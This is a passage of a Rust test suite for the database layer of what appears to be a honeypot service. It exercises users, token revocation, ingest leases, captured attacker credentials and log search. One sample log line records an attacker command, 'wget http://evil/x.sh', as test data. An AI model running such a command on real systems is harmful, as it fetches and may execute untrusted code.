//! The repository's verbs, as one story per area, on every backend under test.

use svc_test_support::in_process as common;

use chrono::{DateTime, Duration, Utc};
use common::{TestDb, lifecycle};
use svc::db::{
    BountyFilter, Db, DbError, IngestBatch, IngestCursor, LifecycleStatus, LogColumn, LogFilter, LogRecord, LogStats,
    NewBounty, NewCredential, NewLog, NewUser, Page, RevokedToken, Role, STRANDED_LIFECYCLE_ERROR, SearchTerm,
    SseTicket, parse_search,
};
use uuid::Uuid;

fn new_user(name: &str, role: Role) -> NewUser {
    NewUser { username: name.into(), password_hash: "$argon2id$fake".into(), role, must_change_password: false }
}

#[tokio::test]
async fn users_story() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        let now = Utc::now();
        let bob = db.add_user(new_user("bob", Role::Viewer), now).await.unwrap();
        assert_eq!(bob.username, "bob");
        assert_eq!(bob.role, Role::Viewer);
        assert_eq!(bob.created_at.timestamp_millis(), now.timestamp_millis());
        assert_eq!(bob.tokens_valid_from, None);

        assert!(matches!(db.add_user(new_user("bob", Role::Admin), now).await, Err(DbError::Conflict)));
        // Usernames compare case-insensitively on both backends: no `Bob` beside `bob`.
        assert!(matches!(db.add_user(new_user("Bob", Role::Admin), now).await, Err(DbError::Conflict)));
        assert_eq!(db.user_by_name("BOB").await.unwrap().uuid, bob.uuid);
        db.add_user(new_user("alice", Role::Admin), now).await.unwrap();
        // Only letter case is folded: accents and trailing spaces make other names, on both backends.
        db.add_user(new_user("böb", Role::Viewer), now).await.unwrap();
        db.add_user(new_user("bob ", Role::Viewer), now).await.unwrap();
        assert_eq!(db.user_by_name("BÖB").await.unwrap().username, "böb");
        assert!(matches!(db.user_by_name("bob  ").await, Err(DbError::NotFound)));

        let names: Vec<_> = db.list_users().await.unwrap().into_iter().map(|u| u.username).collect();
        assert_eq!(names, ["alice", "bob", "bob ", "böb"], "{}", backend.name);

        assert!(matches!(db.user_by_name("carol").await, Err(DbError::NotFound)));

        let later = now + Duration::seconds(5);
        db.set_password(bob.uuid, "$argon2id$new", true, later).await.unwrap();
        let bob = db.user_by_name("bob").await.unwrap();
        assert_eq!(bob.password_hash, "$argon2id$new");
        assert!(bob.must_change_password);
        assert_eq!(bob.tokens_valid_from.map(|t| t.timestamp_millis()), Some(later.timestamp_millis()));
        assert!(matches!(db.set_password(Uuid::new_v4(), "x", false, later).await, Err(DbError::NotFound)));

        let even_later = later + Duration::seconds(5);
        db.set_role(bob.uuid, Role::Admin, even_later).await.unwrap();
        let by_uuid = db.user_by_uuid(bob.uuid).await.unwrap();
        assert_eq!((by_uuid.role, by_uuid.username.as_str()), (Role::Admin, "bob"));
        assert_eq!(by_uuid.tokens_valid_from.map(|t| t.timestamp_millis()), Some(even_later.timestamp_millis()));
        assert!(matches!(db.set_role(Uuid::new_v4(), Role::Admin, now).await, Err(DbError::NotFound)));

        db.delete_user(bob.uuid).await.unwrap();
        assert!(matches!(db.user_by_uuid(bob.uuid).await, Err(DbError::NotFound)));
        assert!(matches!(db.delete_user(bob.uuid).await, Err(DbError::NotFound)));
        // The name is free again.
        db.add_user(new_user("Bob", Role::Viewer), now).await.unwrap();
        db.close().await;
    }
}

#[tokio::test]
async fn denylist_story() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        let now = Utc::now();
        let user = Uuid::new_v4();
        let token = |jti: &str, expires_at| RevokedToken { jti: jti.into(), user, expires_at };
        assert!(!db.is_token_revoked("a").await.unwrap());
        db.revoke_token(&token("a", now + Duration::hours(1)), now).await.unwrap();
        // Logging out twice is not an error.
        db.revoke_token(&token("a", now + Duration::hours(1)), now).await.unwrap();
        db.revoke_token(&token("old", now - Duration::seconds(1)), now - Duration::hours(1)).await.unwrap();
        assert!(db.is_token_revoked("a").await.unwrap(), "{}", backend.name);
        assert!(db.is_token_revoked("old").await.unwrap());
        assert!(!db.is_token_revoked("b").await.unwrap());
        // An entry past its token's expiry is useless; the next revocation prunes it.
        db.revoke_token(&token("c", now + Duration::hours(1)), now).await.unwrap();
        assert!(!db.is_token_revoked("old").await.unwrap());
        assert!(db.is_token_revoked("a").await.unwrap());
        db.close().await;
    }
}

#[tokio::test]
async fn stream_tickets_are_single_use_and_expire() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        let now = Utc::now();
        let user = Uuid::new_v4();
        // Whole milliseconds, as stored.
        let now = DateTime::from_timestamp_millis(now.timestamp_millis()).unwrap();
        let ticket = |expires_at| SseTicket { user, issued_at: now, expires_at, token: None };
        let live = SseTicket {
            token: Some(("jti-1".into(), now + Duration::hours(1))),
            ..ticket(now + Duration::seconds(60))
        };
        db.add_sse_ticket("live", &live).await.unwrap();
        db.add_sse_ticket("stale", &ticket(now - Duration::seconds(1))).await.unwrap();
        assert_eq!(db.take_sse_ticket("live", now).await.unwrap(), Some(live), "{}", backend.name);
        assert_eq!(db.take_sse_ticket("live", now).await.unwrap(), None, "a ticket opens one stream");
        assert_eq!(db.take_sse_ticket("stale", now).await.unwrap(), None);
        assert_eq!(db.take_sse_ticket("unknown", now).await.unwrap(), None);

        // Of many concurrent redemptions of one ticket, exactly one succeeds.
        db.add_sse_ticket("raced", &ticket(now + Duration::seconds(60))).await.unwrap();
        let attempts = (0..8).map(|_| {
            let db = db.clone();
            tokio::spawn(async move { db.take_sse_ticket("raced", Utc::now()).await.unwrap() })
        });
        let mut winners = 0;
        for attempt in attempts.collect::<Vec<_>>() {
            winners += usize::from(attempt.await.unwrap().is_some());
        }
        assert_eq!(winners, 1);
        db.close().await;
    }
}

#[tokio::test]
async fn lifecycle_records_round_trip_and_unknown_ids_are_left_out() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        let mut record = lifecycle(LifecycleStatus::Succeeded, Duration::minutes(3));
        record.host_uuid = Some(Uuid::new_v4().to_string());
        record.error = Some("none".into());
        record.completed_at = Some(Utc::now());
        db.add_lifecycle(&record).await.unwrap();
        assert!(matches!(db.add_lifecycle(&record).await, Err(DbError::Conflict)));

        let found = db.lifecycles(&[record.id, Uuid::new_v4()]).await.unwrap();
        assert_eq!(found.len(), 1, "{}", backend.name);
        let got = &found[0];
        assert_eq!(
            (got.id, &got.decky_name, &got.host_uuid, got.status),
            (record.id, &record.decky_name, &record.host_uuid, record.status)
        );
        assert_eq!(got.started_at.timestamp_millis(), record.started_at.timestamp_millis());
        assert_eq!(got.completed_at.map(|t| t.timestamp_millis()), record.completed_at.map(|t| t.timestamp_millis()));
        assert!(db.lifecycles(&[]).await.unwrap().is_empty());
        db.close().await;
    }
}

#[tokio::test]
async fn sweep_fails_only_stale_unfinished_records_and_is_idempotent() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        let stale_pending = lifecycle(LifecycleStatus::Pending, Duration::minutes(61));
        let stale_running = lifecycle(LifecycleStatus::Running, Duration::hours(5));
        let fresh_running = lifecycle(LifecycleStatus::Running, Duration::minutes(59));
        let old_succeeded = lifecycle(LifecycleStatus::Succeeded, Duration::hours(5));
        let all = [&stale_pending, &stale_running, &fresh_running, &old_succeeded];
        for record in all {
            db.add_lifecycle(record).await.unwrap();
        }

        // What reconcile resolves: every unfinished record of the operation, oldest first.
        let open: Vec<Uuid> =
            db.open_lifecycles(&stale_pending.operation).await.unwrap().iter().map(|r| r.id).collect();
        assert_eq!(open, [stale_running.id, stale_pending.id, fresh_running.id], "{}", backend.name);
        assert!(db.open_lifecycles("no such operation").await.unwrap().is_empty());

        let now = Utc::now();
        assert_eq!(db.fail_stranded_lifecycles(now - Duration::hours(1), now).await.unwrap(), 2, "{}", backend.name);
        let ids: Vec<Uuid> = all.iter().map(|r| r.id).collect();
        for got in db.lifecycles(&ids).await.unwrap() {
            if got.id == stale_pending.id || got.id == stale_running.id {
                assert_eq!(got.status, LifecycleStatus::Failed);
                assert_eq!(got.error.as_deref(), Some(STRANDED_LIFECYCLE_ERROR));
                assert_eq!(got.completed_at.map(|t| t.timestamp_millis()), Some(now.timestamp_millis()));
            } else {
                let before = all.iter().find(|r| r.id == got.id).unwrap();
                assert_eq!(got.status, before.status);
                assert_eq!(got.error, None);
            }
        }
        assert_eq!(db.fail_stranded_lifecycles(now - Duration::hours(1), now).await.unwrap(), 0);
        db.close().await;
    }
}

#[tokio::test]
async fn migrations_are_idempotent() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        db.migrate().await.unwrap();
        db.ping().await.unwrap();
        db.close().await;
    }
}

// ---------------------------------------------------------------------------------------------
// The log pipeline: ingest transactions, leases, bounties, credentials, and the log views.

const SOURCE: &str = "/var/log/svc/ingest.log";
const TTL: std::time::Duration = std::time::Duration::from_secs(60);

/// A fixed instant (2026-11-21T14:00:00Z), so buckets and bounds are easy to read.
fn t0() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339("2026-11-21T14:00:00Z").unwrap().with_timezone(&Utc)
}

fn new_log(at: DateTime<Utc>, decky: &str, service: &str, event_type: &str, attacker_ip: &str, raw: &str) -> NewLog {
    NewLog {
        timestamp: at,
        decky: decky.into(),
        service: service.into(),
        event_type: event_type.into(),
        attacker_ip: attacker_ip.into(),
        raw_line: raw.into(),
        fields: "{}".into(),
        msg: None,
        trace: None,
    }
}

fn cursor(offset: u64) -> IngestCursor {
    IngestCursor { file_id: "2049:1234".into(), offset, fingerprint: format!("{offset:032x}") }
}

fn batch(logs: Vec<NewLog>, to: Option<IngestCursor>) -> IngestBatch {
    IngestBatch { logs, cursor: to, ..IngestBatch::default() }
}

async fn hold_lease(db: &Db, holder: &str) {
    assert!(db.acquire_worker_lease(SOURCE, holder, Utc::now(), TTL).await.unwrap(), "{holder} takes the lease");
}

async fn all_logs(db: &Db) -> Page<LogRecord> {
    db.logs(&LogFilter::default(), 1000, 0).await.unwrap()
}

#[tokio::test]
async fn ingest_commits_rows_and_cursor_together() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        hold_lease(&db, "a").await;
        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), None);
        assert_eq!(db.last_log_id().await.unwrap(), 0);

        let mut first = new_log(t0(), "ssh-01", "ssh", "login", "10.0.0.1", "line one");
        first.fields = r#"{"username":"root"}"#.into();
        first.msg = Some("Failed password".into());
        let second = new_log(t0() + Duration::seconds(1), "web-01", "http", "request", "10.0.0.2", "line two");
        let done = db
            .commit_ingest(SOURCE, "a", None, &batch(vec![first.clone(), second.clone()], Some(cursor(100))))
            .await
            .unwrap();
        assert_eq!((done.logs, done.new_bounties, done.new_credentials), (2, 0, 0), "{}", backend.name);
        assert_eq!(done.last_log_id, db.last_log_id().await.unwrap());
        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), Some(cursor(100)));

        let page = all_logs(&db).await;
        assert_eq!(page.total, 2);
        let stored = &page.rows[1];
        assert_eq!(stored.id, done.last_log_id - 1);
        assert_eq!(
            (stored.timestamp, &stored.decky, &stored.service, &stored.event_type, &stored.attacker_ip),
            (first.timestamp, &first.decky, &first.service, &first.event_type, &first.attacker_ip)
        );
        assert_eq!((&stored.raw_line, &stored.fields, &stored.msg), (&first.raw_line, &first.fields, &first.msg));
        assert_eq!((&stored.trace_id, &stored.span_id), (&None, &None));
        assert_eq!(page.rows[0].raw_line, second.raw_line);

        // The cursor is compare-and-set: a stale or missing expectation stores nothing.
        let third = batch(vec![new_log(t0(), "ssh-01", "ssh", "login", "10.0.0.3", "three")], Some(cursor(200)));
        for stale in
            [None, Some(cursor(50)), Some(IngestCursor { file_id: "2049:9".into(), offset: 100, ..Default::default() })]
        {
            assert!(matches!(db.commit_ingest(SOURCE, "a", stale.as_ref(), &third).await, Err(DbError::Conflict)));
        }
        assert_eq!(all_logs(&db).await.total, 2);
        assert_eq!(db.log_stats().await.unwrap().total_logs, 2);
        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), Some(cursor(100)));
        assert_eq!(db.last_log_id().await.unwrap(), done.last_log_id);

        let done = db.commit_ingest(SOURCE, "a", Some(&cursor(100)), &third).await.unwrap();
        assert_eq!(done.logs, 1);
        assert_eq!(done.last_log_id, db.last_log_id().await.unwrap());

        // An empty batch with a cursor moves the cursor only (a skipped line, a rotation).
        let rotated = IngestCursor { file_id: "2049:5678".into(), offset: 0, ..Default::default() };
        let done =
            db.commit_ingest(SOURCE, "a", Some(&cursor(200)), &batch(vec![], Some(rotated.clone()))).await.unwrap();
        assert_eq!(done.logs, 0);
        assert_eq!(done.last_log_id, db.last_log_id().await.unwrap());
        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), Some(rotated.clone()));
        // Without a cursor, the batch leaves it where it is.
        db.commit_ingest(SOURCE, "a", Some(&rotated), &batch(vec![new_log(t0(), "d", "s", "e", "i", "r")], None))
            .await
            .unwrap();
        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), Some(rotated));
        assert_eq!(all_logs(&db).await.total, 4);

        // Sources are independent.
        assert_eq!(db.ingest_cursor("other").await.unwrap(), None);
        db.close().await;
    }
}

#[tokio::test]
async fn ingest_lease_story() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        let now = Utc::now();
        assert!(db.acquire_worker_lease(SOURCE, "a", now, TTL).await.unwrap(), "{}", backend.name);
        // Held: refused to another holder, renewed for the same one.
        assert!(!db.acquire_worker_lease(SOURCE, "b", now, TTL).await.unwrap());
        assert!(db.acquire_worker_lease(SOURCE, "a", now + Duration::seconds(30), TTL).await.unwrap());
        // The renewal counts from its own `now`: still held 80 s after the first take.
        assert!(!db.acquire_worker_lease(SOURCE, "b", now + Duration::seconds(80), TTL).await.unwrap());
        // Expired: anyone may take it; its end is exclusive.
        assert!(db.acquire_worker_lease(SOURCE, "b", now + Duration::seconds(90), TTL).await.unwrap());
        assert!(!db.acquire_worker_lease(SOURCE, "a", now + Duration::seconds(91), TTL).await.unwrap());
        // Other sources have their own lease.
        assert!(db.acquire_worker_lease("other", "a", now, TTL).await.unwrap());

        // Release gives it up only for its holder.
        db.release_worker_lease(SOURCE, "a").await.unwrap();
        assert!(!db.acquire_worker_lease(SOURCE, "a", now + Duration::seconds(91), TTL).await.unwrap());
        db.release_worker_lease(SOURCE, "b").await.unwrap();
        assert!(db.acquire_worker_lease(SOURCE, "a", now, TTL).await.unwrap());
        db.release_worker_lease(SOURCE, "nobody").await.unwrap();

        // Only the holder of a live lease commits; anyone else stores nothing.
        let one = batch(vec![new_log(t0(), "ssh-01", "ssh", "login", "10.0.0.1", "x")], Some(cursor(10)));
        assert!(matches!(db.commit_ingest(SOURCE, "b", None, &one).await, Err(DbError::Conflict)));
        assert!(matches!(db.commit_ingest("unleased", "a", None, &one).await, Err(DbError::Conflict)));
        assert!(db.acquire_worker_lease(SOURCE, "a", Utc::now() - Duration::seconds(61), TTL).await.unwrap());
        assert!(matches!(db.commit_ingest(SOURCE, "a", None, &one).await, Err(DbError::Conflict)), "expired");
        assert_eq!(all_logs(&db).await.total, 0);
        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), None);
        assert_eq!(db.last_log_id().await.unwrap(), 0);
        hold_lease(&db, "a").await;
        db.commit_ingest(SOURCE, "a", None, &one).await.unwrap();
        assert_eq!(all_logs(&db).await.total, 1);

        // Of many concurrent acquirers of a free lease, exactly one wins; the same for an expired one.
        for (source, at) in [("raced", Utc::now()), (SOURCE, Utc::now() + Duration::seconds(120))] {
            let attempts: Vec<_> = (0..8)
                .map(|i| {
                    let db = db.clone();
                    tokio::spawn(
                        async move { db.acquire_worker_lease(source, &format!("h{i}"), at, TTL).await.unwrap() },
                    )
                })
                .collect();
            let mut winners = 0;
            for attempt in attempts {
                winners += usize::from(attempt.await.unwrap());
            }
            assert_eq!(winners, 1, "{source} on {}", backend.name);
        }
        db.close().await;
    }
}

fn new_bounty(ip: &str, bounty_type: &str, payload: &str) -> NewBounty {
    NewBounty {
        timestamp: t0(),
        decky: "web-01".into(),
        service: "http".into(),
        attacker_ip: ip.into(),
        bounty_type: bounty_type.into(),
        payload: payload.into(),
    }
}

#[tokio::test]
async fn bounties_are_stored_once_and_listed() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        hold_lease(&db, "a").await;
        let ua = new_bounty("10.0.0.1", "fingerprint", r#"{"fingerprint_type":"http_useragent","value":"curl/8"}"#);
        let mut later_ua = ua.clone();
        later_ua.timestamp = t0() + Duration::minutes(1);
        later_ua.decky = "web-02".into();
        let first = IngestBatch {
            bounties: vec![ua.clone(), later_ua, new_bounty("10.0.0.2", "fingerprint", &ua.payload)],
            cursor: Some(cursor(1)),
            ..IngestBatch::default()
        };
        let done = db.commit_ingest(SOURCE, "a", None, &first).await.unwrap();
        assert_eq!(done.new_bounties, 2, "a repeat within one batch is stored once ({})", backend.name);

        let second = IngestBatch {
            bounties: vec![
                ua.clone(),
                new_bounty("10.0.0.1", "credential", r#"{"user":"a_b 50%\\"}"#),
                new_bounty("10.0.0.3", "artifact", r#"{"stored_as":"axb"}"#),
            ],
            cursor: Some(cursor(2)),
            ..IngestBatch::default()
        };
        let done = db.commit_ingest(SOURCE, "a", Some(&cursor(1)), &second).await.unwrap();
        assert_eq!(done.new_bounties, 2, "a repeat across batches is stored once");

        let everything = db.bounties(&BountyFilter::default(), 10, 0).await.unwrap();
        assert_eq!(everything.total, 4);
        assert!(everything.rows.windows(2).all(|w| (w[0].timestamp, w[0].id) > (w[1].timestamp, w[1].id)));
        let stored = everything.rows.iter().find(|b| b.attacker_ip == "10.0.0.2").unwrap();
        assert_eq!((stored.bounty_type.as_str(), stored.payload.as_str()), ("fingerprint", ua.payload.as_str()));
        assert_eq!((stored.timestamp, stored.decky.as_str(), stored.service.as_str()), (t0(), "web-01", "http"));

        let by = |bounty_type: Option<&str>, search: Option<&str>| BountyFilter {
            bounty_type: bounty_type.map(str::to_string),
            search: search.map(str::to_string),
            ..BountyFilter::default()
        };
        let page = db.bounties(&by(Some("fingerprint"), None), 1, 0).await.unwrap();
        assert_eq!((page.total, page.rows.len()), (2, 1));
        let next = db.bounties(&by(Some("fingerprint"), None), 1, 1).await.unwrap();
        assert_eq!(next.total, 2);
        assert_ne!(page.rows[0].id, next.rows[0].id);
        assert_eq!(db.bounties(&by(Some("finger"), None), 10, 0).await.unwrap().total, 0, "type is exact");
        assert_eq!(db.bounties(&by(None, Some("10.0.0.3")), 10, 0).await.unwrap().total, 1);
        let of_ip = |ip: &str| BountyFilter { attacker_ip: Some(ip.to_string()), ..BountyFilter::default() };
        assert_eq!(db.bounties(&of_ip("10.0.0.3"), 10, 0).await.unwrap().total, 1);
        assert_eq!(db.bounties(&of_ip("10.0.0."), 10, 0).await.unwrap().total, 0, "the address is exact");
        assert_eq!(db.bounties(&by(None, Some("curl/8")), 10, 0).await.unwrap().total, 2, "payload");
        assert_eq!(db.bounties(&by(Some("credential"), Some("10.0.0.1")), 10, 0).await.unwrap().total, 1);
        // `%`, `_` and `\` are literal.
        assert_eq!(db.bounties(&by(None, Some("50%\\")), 10, 0).await.unwrap().total, 1);
        assert_eq!(db.bounties(&by(None, Some("%")), 10, 0).await.unwrap().total, 1);
        assert_eq!(db.bounties(&by(None, Some("a_b")), 10, 0).await.unwrap().total, 1, "not `axb`");
        assert_eq!(db.bounties(&by(None, Some("web-02")), 10, 0).await.unwrap().total, 0);
        db.close().await;
    }
}

fn new_credential(ip: &str, principal: Option<&str>, secret: &str, seen_at: DateTime<Utc>) -> NewCredential {
    NewCredential {
        seen_at,
        attacker_ip: ip.into(),
        decky: "ssh-01".into(),
        service: "ssh".into(),
        secret_kind: "plaintext".into(),
        secret_sha256: format!("{:0>64}", secret),
        principal: principal.map(str::to_string),
        secret_printable: secret.into(),
        secret_b64: "cGFzcw==".into(),
        outcome: None,
    }
}

#[tokio::test]
async fn credentials_count_attempts() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        hold_lease(&db, "a").await;
        let root = new_credential("10.0.0.1", Some("root"), "aa", t0());
        let mut root_again = new_credential("10.0.0.1", Some("root"), "aa", t0() + Duration::seconds(5));
        root_again.outcome = Some("failed".into());
        let first = IngestBatch {
            credentials: vec![
                root.clone(),
                root_again,
                // No principal is its own key, apart from any named one.
                new_credential("10.0.0.1", None, "aa", t0()),
                new_credential("10.0.0.1", Some(""), "aa", t0()),
                new_credential("10.0.0.2", Some("root"), "aa", t0()),
            ],
            cursor: Some(cursor(1)),
            ..IngestBatch::default()
        };
        let done = db.commit_ingest(SOURCE, "a", None, &first).await.unwrap();
        assert_eq!(done.new_credentials, 3, "{}", backend.name);

        let mut later = new_credential("10.0.0.1", Some("root"), "aa", t0() + Duration::seconds(60));
        later.secret_printable = "ignored on a repeat".into();
        let second = IngestBatch {
            credentials: vec![later, new_credential("10.0.0.1", Some("root"), "bb", t0() + Duration::seconds(61))],
            cursor: Some(cursor(2)),
            ..IngestBatch::default()
        };
        let done = db.commit_ingest(SOURCE, "a", Some(&cursor(1)), &second).await.unwrap();
        assert_eq!(done.new_credentials, 1);

        let rows = db.credentials(&Default::default(), 10, 0).await.unwrap().rows;
        assert_eq!(rows.len(), 4);
        assert!(rows.windows(2).all(|w| w[0].last_seen >= w[1].last_seen), "most recently seen first");
        let root_aa = rows.iter().find(|c| {
            c.attacker_ip == "10.0.0.1" && c.principal.as_deref() == Some("root") && c.secret_printable == "aa"
        });
        let root_aa = root_aa.unwrap();
        assert_eq!(root_aa.attempt_count, 3);
        assert_eq!((root_aa.first_seen, root_aa.last_seen), (t0(), t0() + Duration::seconds(60)));
        // A repeat without an outcome keeps the one stored.
        assert_eq!(root_aa.outcome.as_deref(), Some("failed"));
        assert_eq!(root_aa.secret_sha256, root.secret_sha256);
        assert_eq!((root_aa.secret_kind.as_str(), root_aa.secret_b64.as_str()), ("plaintext", "cGFzcw=="));
        assert_eq!((root_aa.decky.as_str(), root_aa.service.as_str()), ("ssh-01", "ssh"));
        let anonymous = rows.iter().find(|c| c.principal.is_none()).unwrap();
        assert_eq!((anonymous.attempt_count, anonymous.outcome.as_deref()), (2, None));
        assert_eq!(rows[0].secret_printable, "bb");
        assert_eq!(rows[0].attempt_count, 1);

        // A new outcome overwrites the old one.
        let mut succeeded = new_credential("10.0.0.1", Some("root"), "aa", t0() + Duration::seconds(90));
        succeeded.outcome = Some("success".into());
        let third = IngestBatch { credentials: vec![succeeded], cursor: Some(cursor(3)), ..IngestBatch::default() };
        assert_eq!(db.commit_ingest(SOURCE, "a", Some(&cursor(2)), &third).await.unwrap().new_credentials, 0);
        let rows = db.credentials(&Default::default(), 1, 0).await.unwrap().rows;
        assert_eq!(rows.len(), 1);
        assert_eq!((rows[0].attempt_count, rows[0].outcome.as_deref()), (4, Some("success")));
        db.close().await;
    }
}

/// Rows for the search and view stories: one per minute from `t0()`, newest last.
fn sample_logs() -> Vec<NewLog> {
    let at = |minutes: i64| t0() + Duration::minutes(minutes);
    let mut logs = vec![
        new_log(at(0), "ssh-01", "ssh", "login", "10.0.0.1", "<13>1 ssh-01 sshd login user=root"),
        new_log(at(1), "ssh-01", "ssh", "command", "10.0.0.1", "<13>1 ssh-01 sshd CMD wget http://evil/x.sh"),
        new_log(at(2), "web-01", "http", "request", "10.0.0.2", "<13>1 web-01 GET /index.php?a=50%25&a=b"),
        new_log(at(3), "web-01", "http", "request", "10.0.0.3", "<13>1 web-01 GET /50%_off\\sale"),
        new_log(at(4), "web-01", "http", "request", "Unknown", "<13>1 web-01 GET /a_b"),
        new_log(at(16), "ftp-01", "ftp", "login", "10.0.0.2", "<13>1 ftp-01 USER Admin"),
    ];
    logs[0].fields = r#"{"username":"root","password":"toor"}"#.into();
    logs[5].fields = r#"{"username":"admin","remote_port":"2121"}"#.into();
    logs[2].fields = r#"{"path":"/index.php","user.name":"dotted"}"#.into();
    logs
}

async fn seeded(backend: &TestDb) -> Db {
    let db = backend.open().await;
    hold_lease(&db, "a").await;
    db.commit_ingest(SOURCE, "a", None, &batch(sample_logs(), Some(cursor(1)))).await.unwrap();
    db
}

#[tokio::test]
async fn log_search_matches_the_dashboard_grammar() {
    for backend in TestDb::all() {
        let db = seeded(&backend).await;
        let raw = |rows: Vec<LogRecord>| rows.into_iter().map(|r| r.raw_line).collect::<Vec<_>>();
        let search = |text: &str| {
            let db = db.clone();
            let filter = LogFilter { terms: parse_search(text), ..LogFilter::default() };
            let text = text.to_string();
            async move {
                let page = db.logs(&filter, 100, 0).await.unwrap();
                assert_eq!(page.total as usize, page.rows.len(), "{text}");
                page.rows.len()
            }
        };
        assert_eq!(search("decky:ssh-01").await, 2, "{}", backend.name);
        assert_eq!(search("service:http").await, 3);
        assert_eq!(search("event:login").await, 2);
        for key in ["attacker", "attacker-ip", "attacker_ip"] {
            assert_eq!(search(&format!("{key}:10.0.0.2")).await, 2, "{key}");
        }
        assert_eq!(search("decky:ssh").await, 0, "columns match exactly");
        // Fields: `key:value` on the JSON text, the key reduced to [A-Za-z0-9_].
        assert_eq!(search("username:root").await, 1);
        assert_eq!(search("username:admin").await, 1);
        assert_eq!(search("remote_port:2121").await, 1);
        assert_eq!(search("user-name:root").await, 1, "`user-name` is the field `username`");
        assert_eq!(search("user.name:dotted").await, 0, "`user.name` is the field `username` too");
        assert_eq!(search("username:ro").await, 0, "fields match exactly");
        assert_eq!(search("nosuchfield:x").await, 0);
        // Bare tokens: substrings of raw_line, decky, service or attacker_ip; letter case ignored.
        assert_eq!(search("wget").await, 1);
        assert_eq!(search("WGET").await, 1);
        assert_eq!(search("web").await, 3);
        assert_eq!(search("10.0.0").await, 5);
        assert_eq!(search("ftp").await, 1);
        // `%`, `_` and `\` are literal, not wildcards.
        assert_eq!(search("50%").await, 2);
        assert_eq!(search("50%_").await, 1);
        assert_eq!(search("a_b").await, 1);
        assert_eq!(search("%").await, 2);
        assert_eq!(search("_").await, 2);
        assert_eq!(search("\\\\").await, 1);
        assert_eq!(search("'\\'").await, 1);
        // Terms are AND-ed; quotes group.
        assert_eq!(search("service:http 10.0.0.3").await, 1);
        assert_eq!(search("decky:ssh-01 event:login username:root").await, 1);
        assert_eq!(search("decky:ssh-01 decky:web-01").await, 0);
        assert_eq!(search("\"GET /a_b\"").await, 1);
        assert_eq!(search("\"web-01 GET\"").await, 3);
        assert_eq!(search("GET web-01").await, 3, "two terms, each anywhere");
        assert_eq!(search("\"GET web-01\"").await, 0, "one term");
        // A URL is a field search on `http`.
        assert_eq!(search("http://evil/x.sh").await, 0);
        assert_eq!(search("null").await, 6);

        let filter = LogFilter { terms: parse_search("decky:web-01"), ..LogFilter::default() };
        let rows = db.logs(&filter, 2, 1).await.unwrap();
        assert_eq!(rows.total, 3);
        assert_eq!(raw(rows.rows), ["<13>1 web-01 GET /50%_off\\sale", "<13>1 web-01 GET /index.php?a=50%25&a=b"]);
        db.close().await;
    }
}

#[tokio::test]
async fn log_views_page_bound_count_and_bucket() {
    for backend in TestDb::all() {
        let db = seeded(&backend).await;
        let at = |minutes: i64| t0() + Duration::minutes(minutes);

        // Newest first, ties on the timestamp by id; totals with and without a filter.
        let page = db.logs(&LogFilter::default(), 2, 0).await.unwrap();
        assert_eq!(page.total, 6, "{}", backend.name);
        assert_eq!(page.rows.iter().map(|r| r.timestamp).collect::<Vec<_>>(), [at(16), at(4)]);
        let tail = db.logs(&LogFilter::default(), 50, 5).await.unwrap();
        assert_eq!((tail.total, tail.rows.len()), (6, 1));
        assert_eq!(tail.rows[0].timestamp, at(0));
        assert_eq!(db.logs(&LogFilter::default(), 50, 6).await.unwrap().rows.len(), 0);
        let tie = batch(
            vec![
                new_log(at(4), "web-01", "http", "request", "10.0.0.9", "tie one"),
                new_log(at(4), "web-01", "http", "request", "10.0.0.9", "tie two"),
            ],
            Some(cursor(2)),
        );
        let done = db.commit_ingest(SOURCE, "a", Some(&cursor(1)), &tie).await.unwrap();
        let page = db.logs(&LogFilter::default(), 3, 1).await.unwrap();
        assert_eq!(page.total, 8);
        assert_eq!(
            page.rows.iter().map(|r| r.raw_line.as_str()).collect::<Vec<_>>(),
            ["tie two", "tie one", "<13>1 web-01 GET /a_b"]
        );
        assert_eq!(page.rows[0].id, done.last_log_id);

        // Time bounds are inclusive, alone or together, and combine with terms.
        let between = |since: Option<i64>, until: Option<i64>, search: &str| LogFilter {
            terms: parse_search(search),
            since: since.map(at),
            until: until.map(at),
            ..LogFilter::default()
        };
        let count = |filter: LogFilter| {
            let db = db.clone();
            async move { db.logs(&filter, 100, 0).await.unwrap().total }
        };
        assert_eq!(count(between(Some(1), Some(3), "")).await, 3);
        assert_eq!(count(between(Some(4), None, "")).await, 4);
        assert_eq!(count(between(None, Some(0), "")).await, 1);
        assert_eq!(count(between(Some(2), Some(16), "service:http")).await, 5);
        let just_after = LogFilter { since: Some(at(16) + Duration::milliseconds(1)), ..LogFilter::default() };
        assert_eq!(count(just_after).await, 0);

        // The stream's view: after an id, oldest first.
        let first_id = db.logs(&LogFilter::default(), 1, 7).await.unwrap().rows[0].id;
        let after = db.logs_after(first_id, &LogFilter::default(), 3).await.unwrap();
        assert_eq!(after.iter().map(|r| r.id).collect::<Vec<_>>(), [first_id + 1, first_id + 2, first_id + 3]);
        let after = db.logs_after(first_id, &between(None, None, "service:http"), 100).await.unwrap();
        assert_eq!(after.len(), 5);
        assert!(after.windows(2).all(|w| w[0].id < w[1].id));
        assert!(db.logs_after(done.last_log_id, &LogFilter::default(), 10).await.unwrap().is_empty());
        assert_eq!(db.last_log_id().await.unwrap(), done.last_log_id);

        // Buckets aligned to the epoch, oldest first, empty ones left out.
        let buckets = db.log_histogram(&LogFilter::default(), 15).await.unwrap();
        let got: Vec<_> = buckets.iter().map(|b| (b.start, b.count)).collect();
        assert_eq!(got, [(at(0), 7), (at(15), 1)]);
        let buckets = db.log_histogram(&between(None, None, "service:http"), 2).await.unwrap();
        let got: Vec<_> = buckets.iter().map(|b| (b.start, b.count)).collect();
        assert_eq!(got, [(at(2), 2), (at(4), 3)]);
